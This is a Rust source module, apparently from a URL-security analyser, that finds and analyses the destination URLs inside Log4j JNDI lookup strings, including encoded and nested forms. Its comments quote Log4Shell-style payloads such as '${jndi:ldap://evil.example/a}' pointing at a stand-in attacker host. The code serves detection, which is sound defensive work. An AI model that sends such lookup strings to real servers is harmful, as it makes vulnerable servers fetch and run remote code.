//! URLs that Log4j lookups carry: the name of `${jndi:ldap://evil.example/a}`
//! is where a vulnerable server that logs the URL connects (and whose
//! answer it may run), so it is a destination like any carried URL, with
//! its own analysis (`${jndi:ldap://127.0.0.1/}` reaches a loopback
//! address, `${jndi:ldap://paypa1.com/}` a look-alike).
//!
//! The lookups are read as [`checks::lookup`](crate::analysis::checks::lookup)
//! reads them for `jndi-lookup`: in the input as written, whole (a lookup
//! may span path segments), then in each component whose decoding changed
//! it (`%24%7Bjndi%3A...`).

use super::{find_url, label_of, lift, url_node, Budget, Nested, NestedKind, Unfolding};
use crate::analysis::checks::lookup::{decoded_only_lookups, jndi_lookups, JndiLookup};
use crate::analysis::Options;
use crate::split::ComponentKind::PathSegment;
use crate::split::Span;
use crate::warnings::Warning;

/// How a URL a lookup names is written (its [`Nested::spelling`]): its
/// destination is where a server connects, not where a redirect sends a
/// visitor, and `jndi-lookup` says so already.
pub(crate) const IN_LOOKUP: &str =
    "in a Log4j JNDI lookup, which a server running Log4j 2 before 2.15 that logs it connects to";

/// Whether `n` is a URL a lookup names: [`IN_LOOKUP`] is how it is
/// written.
pub(crate) fn in_lookup(n: &Nested) -> bool {
    n.spelling.contains(&IN_LOOKUP)
}

/// `${` and `jndi:`, before the name of a lookup written plainly.
const NAME_OFFSET: usize = 7;

/// The URLs the Log4j lookups of `input` and of its decoded components
/// name, at most `room`, each once (the first place it is written) and
/// none that `already` lists.
pub(super) fn unfold_lookups(
    at: &Unfolding<'_>,
    already: &[Nested],
    room: usize,
    budget: &mut Budget,
    lifted: &mut Vec<Warning>,
) -> Vec<Nested> {
    let (input, components, options) = (at.input, at.components, at.options);
    let mut out: Vec<Nested> = Vec::new();
    let mut seen: Vec<Vec<u8>> = Vec::new();
    let mut keep = |l: &JndiLookup, out: &Vec<Nested>| {
        // A URL the unfolding found as text already (`?u=${jndi:ldap://x/}`
        // read from its `ldap:`) is listed once.
        let found = already
            .iter()
            .any(|n| n.kind == NestedKind::Url && n.text.as_bytes().starts_with(&l.name));
        // A name whose host or port the server fills in names no host.
        let readable = l.filled.is_empty() || l.readable().is_some();
        let fresh = out.len() < room
            && names_url(&l.reading)
            && readable
            && !found
            && !seen.contains(&l.name);
        if fresh {
            seen.push(l.name.clone());
        }
        fresh
    };
    // As written: the name's own bytes are marked when no nested lookup
    // spelled it; else the whole lookup.
    let written = if memchr::memmem::find(input, b"${").is_some() {
        jndi_lookups(input)
    } else {
        Vec::new()
    };
    for l in written {
        if !keep(&l, &out) {
            continue;
        }
        let span = Span::new(l.start, l.end);
        let component = components
            .iter()
            .position(|c| c.span.start <= l.start && l.start < c.span.end.max(c.span.start + 1));
        let last = components
            .iter()
            .rfind(|c| c.span.start < l.end)
            .map(|c| c.kind);
        let label = match component.and_then(|i| components.get(i)) {
            Some(c) if c.span.end >= l.end => label_of(components, component.unwrap_or(0)),
            // `/${jndi:ldap://evil.example/a}`: three segments of one path.
            Some(c) if c.kind == PathSegment && last == Some(PathSegment) => "path".to_string(),
            _ => "URL".to_string(),
        };
        let mut node = node(&l, label, options, budget);
        node.component = component.unwrap_or(0);
        node.layer = 1;
        node.span = span;
        let plain = l.as_written();
        lift(&mut node, lifted, |s| {
            // Within the lookup whatever the span (one over the name's
            // lossy text may run past its bytes).
            let to = |i: usize| (l.start + NAME_OFFSET + i).min(l.end);
            if plain {
                Span::new(to(s.start), to(s.end))
            } else {
                span
            }
        });
        out.push(node);
    }
    // Decoded: an application that logs the value logs it decoded. Its
    // bytes are the whole component's. (`decoded_only_lookups` turns a
    // component decoding left alone, or with no `${`, away at once.)
    for (i, c) in components.iter().enumerate() {
        for l in decoded_only_lookups(c.raw(), c.last_layer()) {
            if !keep(&l, &out) {
                continue;
            }
            let mut node = node(&l, label_of(components, i), options, budget);
            node.component = i;
            node.layer = c.layers().count();
            node.span = c.span;
            lift(&mut node, lifted, |_| c.span);
            out.push(node);
        }
    }
    out
}

/// Whether a JNDI name is a URL (`ldap://x/a`, `dns://x`), not a name in
/// the server's own directory (`java:comp/env/jdbc`).
fn names_url(name: &[u8]) -> bool {
    find_url(name).is_some_and(|f| f.from == 0)
}

/// The URL node of lookup `l`, found in `label`.
fn node(l: &JndiLookup, label: String, options: &Options, budget: &mut Budget) -> Nested {
    let mut spelling = vec![IN_LOOKUP];
    if l.nested {
        spelling.push("its letters spelled by nested lookups Log4j resolves first");
    }
    if !l.filled.is_empty() {
        spelling.push("with lookups Log4j fills in from the server's own state, each read as a label of its name");
    }
    url_node(
        &l.reading,
        format!("{label} → Log4j JNDI lookup"),
        spelling,
        options,
        budget,
    )
}
